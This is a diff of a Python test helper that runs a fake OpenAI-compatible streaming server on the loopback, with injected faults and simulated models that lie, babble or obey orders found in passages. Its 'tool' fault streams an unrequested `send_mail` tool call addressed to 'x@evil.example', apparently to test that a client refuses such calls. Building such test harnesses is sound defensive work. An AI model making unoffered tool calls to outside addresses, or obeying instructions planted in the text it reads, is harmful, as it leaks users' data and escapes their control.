@@ -1,7 +1,8 @@
 """A working OpenAI-compatible server on the loopback, whose model reads the prompt it is sent; it can also fail.
 
-`answering` copies one line of each passage with its marker; the other minds lie, obey orders that they find in
-passages, or babble. Every request's bytes are kept, for tests that say what may never be sent.
+`Wire` is what servers of other formats share with it. `answering` copies one line of each passage as a claim; the
+others lie, obey orders that they find in passages, or babble. Every request's bytes are kept, for tests that say
+what may never be sent.
 """
 
 from __future__ import annotations
@@ -11,7 +12,7 @@ import re
 import threading
 import time
 from collections.abc import Callable, Iterator
-from contextlib import contextmanager, suppress
+from contextlib import contextmanager
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
@@ -75,32 +76,29 @@ class Simulator:
 
     mind: Mind = answering
     fault: str = ""
-    """"", slow, cut, 429, 429-once, 500, 401, malformed, html, empty, huge, endless, beating, redirect."""
+    """"", slow, cut, short, 429, 429-once, 500, 401, malformed, html, empty, huge, endless, beating, tool,
+    redirect."""
     delay: float = 5.0
-    ends: float = field(default_factory=lambda: time.monotonic() + 30)
-    """When a stream without an end ends all the same, so that a test fails rather than hangs."""
     bodies: list[bytes] = field(default_factory=list)
     headers: list[dict[str, str]] = field(default_factory=list)
+    paths: list[str] = field(default_factory=list)
+    prompts: list[str] = field(default_factory=list)
     url: str = ""
-
-    @property
-    def prompts(self) -> list[str]:
-        return [json.loads(body)["messages"][-1]["content"] for body in self.bodies]
+    left: threading.Event = field(default_factory=threading.Event)
+    """Whether a caller went away before the end."""
 
 
 @contextmanager
-def serving(mind: Mind = answering, fault: str = "", delay: float = 5.0) -> Iterator[Simulator]:
+def serving(
+    mind: Mind = answering, fault: str = "", delay: float = 5.0, wire: type[Wire] | None = None
+) -> Iterator[Simulator]:
     simulator = Simulator(mind, fault, delay)
-
-    class Handler(_Handler):
-        pass
-
-    Handler.simulator = simulator
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    handler = type("Handler", (wire or OpenAI,), {"simulator": simulator})
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
     server.daemon_threads = True
     thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
     thread.start()
-    simulator.url = f"http://127.0.0.1:{server.server_address[1]}/v1"
+    simulator.url = f"http://127.0.0.1:{server.server_address[1]}{handler.base}"
     try:
         yield simulator
     finally:
@@ -108,9 +106,40 @@ def serving(mind: Mind = answering, fault: str = "", delay: float = 5.0) -> Iter
         server.server_close()
 
 
-class _Handler(BaseHTTPRequestHandler):
+class Wire(BaseHTTPRequestHandler):
+    """A server that streams; what is left open is its format."""
+
     simulator: Simulator
+    base = ""
+    content_type = "text/event-stream"
     protocol_version = "HTTP/1.1"
+
+    def refused(self, body: bytes) -> int:
+        """Return the status for a request that this format does not know, 0 for one that it does."""
+        return 0
+
+    def prompt_of(self, body: dict) -> str:
+        """Return what the user says."""
+        raise NotImplementedError
+
+    def begin(self, body: dict) -> None:
+        """Write what comes before the text."""
+
+    def say(self, text: str) -> None:
+        """Write some text."""
+        raise NotImplementedError
+
+    def end(self, count: int) -> None:
+        """Write what comes after the text, with its number of tokens."""
+        raise NotImplementedError
+
+    def call_a_tool(self) -> None:
+        """Write a call of a tool that nobody offered."""
+        raise NotImplementedError
+
+    def garble(self) -> None:
+        """Write bytes that break off within the format."""
+        raise NotImplementedError
 
     def log_message(self, *_: object) -> None:
         pass
@@ -119,16 +148,22 @@ class _Handler(BaseHTTPRequestHandler):
         body = self.rfile.read(int(self.headers["content-length"]))
         self.simulator.bodies.append(body)
         self.simulator.headers.append(dict(self.headers.items()))
-        with suppress(BrokenPipeError, ConnectionResetError):
+        self.simulator.paths.append(self.path)
+        try:
             self._reply(body)
+        except (BrokenPipeError, ConnectionResetError):
+            self.simulator.left.set()
 
     def _reply(self, body: bytes) -> None:
+        if status := self.refused(body):
+            return self._whole(status, b'{"error":{"message":"not a request of this format"}}')
         fault = self.simulator.fault
         if fault == "429-once":
             self.simulator.fault = ""
             return self._whole(429, b'{"error":{"message":"slow down"}}')
         if fault in ("401", "429", "500"):
-            return self._whole(int(fault), b'{"error":{"message":"secret-detail-of-the-endpoint"}}')
+            wait = {"retry-after": "7"} if fault == "429" else {}
+            return self._whole(int(fault), b'{"error":{"message":"secret-detail-of-the-endpoint"}}', wait)
         if fault == "redirect":
             return self._whole(302, b"", {"location": "http://127.0.0.1:9/v1"})
         if fault == "html":
@@ -137,61 +172,87 @@ class _Handler(BaseHTTPRequestHandler):
             return self._whole(200, b"")
         if fault == "slow":
             time.sleep(self.simulator.delay)
-        self._stream(self.simulator.mind(json.loads(body)["messages"][-1]["content"]) if body else "", fault)
+        said = json.loads(body)
+        self.simulator.prompts.append(self.prompt_of(said))
+        self._stream(said, fault)
 
-    def _stream(self, text: str, fault: str) -> None:
+    def _stream(self, body: dict, fault: str) -> None:
         self.send_response(200)
-        self.send_header("content-type", "text/event-stream")
+        self.send_header("content-type", self.content_type)
         self.send_header("connection", "close")
         if fault == "cut":
             self.send_header("content-length", "1000000")
         self.end_headers()
         self.close_connection = True
         if fault == "malformed":
-            self.wfile.write(b'data: {"id": "x", "choices": [{"index": 0, "delta": {"content": \n\n')
-            return
+            return self.garble()
+        self.begin(body)
+        if fault == "tool":
+            return self.call_a_tool()
         if fault == "huge":
-            self._huge()
-            return
-        if fault in ("endless", "beating"):
-            self._endless(fault)
-            return
+            return self._on_and_on("x" * 65536, 1024, 0.0)
+        if fault == "endless":
+            return self._on_and_on("x ", 100_000, 0.01)
+        if fault == "beating":
+            return self._beat()
+        text = self.simulator.mind(self.simulator.prompts[-1])
         parts = [text[at : at + 7] for at in range(0, len(text), 7)]
         for at, part in enumerate(parts):
-            if fault == "cut" and at >= len(parts) // 2:
-                return
-            self._event({"choices": [{"index": 0, "delta": {"content": part}}]})
-        usage = {"prompt_tokens": 120, "completion_tokens": len(parts), "total_tokens": 120 + len(parts)}
-        self._event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
-        self._event({"choices": [], "usage": usage})
-        self.wfile.write(b"data: [DONE]\n\n")
+            if fault in ("cut", "short") and at >= len(parts) // 2:
+                return None
+            self.say(part)
+        return self.end(len(parts))
 
-    def _endless(self, fault: str) -> None:
-        """Go on until the other side has left; `beating` sends nothing that is a reply."""
-        started = '{"claims": ['
-        while time.monotonic() < self.simulator.ends:
-            if fault == "beating":
-                self.wfile.write(b": still here\n\n")
-                self.wfile.flush()
-                time.sleep(0.01)
-            else:
-                self._event({"choices": [{"index": 0, "delta": {"content": started}}]})
-                started = '{"quotes": [], "text": "x", "inferred": false}, '
+    def _beat(self) -> None:
+        """Go on saying nothing until the other side has left."""
+        for _ in range(3_000):
+            self.send_bytes(b": still here\n\n")
+            time.sleep(0.01)
 
-    def _huge(self) -> None:
-        block = "x" * 65536
-        for _ in range(1024):
-            self._event({"choices": [{"index": 0, "delta": {"content": block}}]})
+    def _on_and_on(self, text: str, times: int, pause: float) -> None:
+        for _ in range(times):
+            self.say(text)
+            time.sleep(pause)
 
-    def _event(self, fields: dict) -> None:
-        event = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "simulated", **fields}
-        self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
+    def send_bytes(self, content: bytes) -> None:
+        self.wfile.write(content)
         self.wfile.flush()
 
     def _whole(self, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
         self.send_response(status)
-        for name, value in (headers or {"content-type": "application/json"}).items():
+        for name, value in {"content-type": "application/json", **(headers or {})}.items():
             self.send_header(name, value)
         self.send_header("content-length", str(len(body)))
         self.end_headers()
         self.wfile.write(body)
+
+
+class OpenAI(Wire):
+    """`POST /v1/chat/completions`"""
+
+    base = "/v1"
+
+    def prompt_of(self, body: dict) -> str:
+        return body["messages"][-1]["content"]
+
+    def say(self, text: str) -> None:
+        self._event({"choices": [{"index": 0, "delta": {"content": text}}]})
+
+    def end(self, count: int) -> None:
+        usage = {"prompt_tokens": 120, "completion_tokens": count, "total_tokens": 120 + count}
+        self._event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
+        self._event({"choices": [], "usage": usage})
+        self.send_bytes(b"data: [DONE]\n\n")
+
+    def call_a_tool(self) -> None:
+        function = {"name": "send_mail", "arguments": '{"to": "x@evil.example"}'}
+        call = {"index": 0, "id": "c1", "type": "function", "function": function}
+        self._event({"choices": [{"index": 0, "delta": {"tool_calls": [call]}}]})
+        self.end(1)
+
+    def garble(self) -> None:
+        self.send_bytes(b'data: {"id": "x", "choices": [{"index": 0, "delta": {"content": \n\n')
+
+    def _event(self, fields: dict) -> None:
+        event = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "simulated", **fields}
+        self.send_bytes(f"data: {json.dumps(event)}\n\n".encode())
